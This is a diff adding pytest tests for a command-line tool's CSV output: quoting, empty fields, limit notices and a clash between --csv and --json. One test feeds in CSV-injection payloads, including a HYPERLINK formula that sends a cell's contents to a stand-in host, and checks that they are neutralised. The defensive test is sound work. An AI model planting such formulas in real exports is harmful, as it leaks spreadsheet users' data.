@@ -1,6 +1,7 @@
 """The commands' tables never shorten a cell to "…": ids stay whole, other cells fold, and a
 table whose ids leave the others too little room is printed wider than the terminal."""
 
+import csv
 import io
 from datetime import UTC, datetime
 
@@ -162,3 +163,68 @@ def test_a_table_piped_keeps_every_cell_whole_on_its_lines(
     asked = Console(file=io.StringIO(), record=True)
     output.show(table, asked)
     assert max(len(line) for line in asked.export_text().splitlines()) <= 100
+
+
+def csv_printed(capsys: pytest.CaptureFixture[str], *rows: dict[str, object]) -> str:
+    """What ``--csv`` prints of ``rows`` under the fields ``id``, ``fen`` and ``at``."""
+    output.as_csv(("id", "fen", "at"), rows)
+    return capsys.readouterr().out
+
+
+def test_csv_quotes_every_text_and_leaves_numbers_bare(capsys: pytest.CaptureFixture[str]) -> None:
+    """RFC 4180 (CRLF, a quote doubled, a comma or a line break inside quotes), a text quoted
+    even without them (a spreadsheet that splits on ";" keeps "a;b" one cell), fen bare."""
+    printed = csv_printed(
+        capsys,
+        {"id": 'b-1, "the shop"\non two lines', "fen": 4200, "at": "2026-12-07T02:21:00+00:00"},
+        {"id": "a;b", "fen": -500, "at": None, "kept": "not a field"},
+        {"id": "older-server", "fen": 0},  # a field it lacks: empty
+    )
+    assert printed == (
+        '"id","fen","at"\r\n'
+        '"b-1, ""the shop""\non two lines",4200,"2026-12-07T02:21:00+00:00"\r\n'
+        '"a;b",-500,""\r\n'
+        '"older-server",0,""\r\n'
+    )
+    read = list(csv.DictReader(io.StringIO(printed, newline="")))
+    assert read[0] == {
+        "id": 'b-1, "the shop"\non two lines',
+        "fen": "4200",
+        "at": "2026-12-07T02:21:00+00:00",
+    }
+    assert [row["fen"] for row in read] == ["4200", "-500", "0"]
+
+
+@pytest.mark.parametrize(
+    "text", ['=HYPERLINK("http://x/?"&A1)', "+1+1", "-2-3", "@SUM(A1)", "\t=1", "\r=1"]
+)
+def test_csv_writes_a_text_a_spreadsheet_would_compute_as_text(
+    capsys: pytest.CaptureFixture[str], text: str
+) -> None:
+    """OWASP's CSV Injection: a text that begins with = + - @, a tab or a carriage return,
+    after a "'", which a spreadsheet shows and does not compute; a number is not touched."""
+    printed = csv_printed(capsys, {"id": text, "fen": -5, "at": f"x{text}"})
+    (row,) = csv.DictReader(io.StringIO(printed, newline=""))
+    assert row == {"id": f"'{text}", "fen": "-5", "at": f"x{text}"}
+
+
+def test_csv_of_no_rows_is_its_header_alone(capsys: pytest.CaptureFixture[str]) -> None:
+    output.as_csv(("id", "fen"), [], left=None)
+    captured = capsys.readouterr()
+    assert (captured.out, captured.err) == ('"id","fen"\r\n', "")
+
+
+def test_csv_says_on_stderr_what_limit_left_out(capsys: pytest.CaptureFixture[str]) -> None:
+    title = output.listed_title(1, "loan(s)", True)
+    output.as_csv(("id",), [{"id": "l-1"}], left=title)
+    captured = capsys.readouterr()
+    assert captured.out == '"id"\r\n"l-1"\r\n'
+    assert captured.err == "the newest 1 loan(s): more with a higher --limit\n"
+
+
+def test_csv_and_json_together_are_refused() -> None:
+    output.one_output(as_json=True, as_csv=False)
+    output.one_output(as_json=False, as_csv=True)
+    with pytest.raises(output.OperatorError) as refused:
+        output.one_output(as_json=True, as_csv=True)
+    assert (str(refused.value), refused.value.exit_code) == ("--csv or --json, not both", 2)
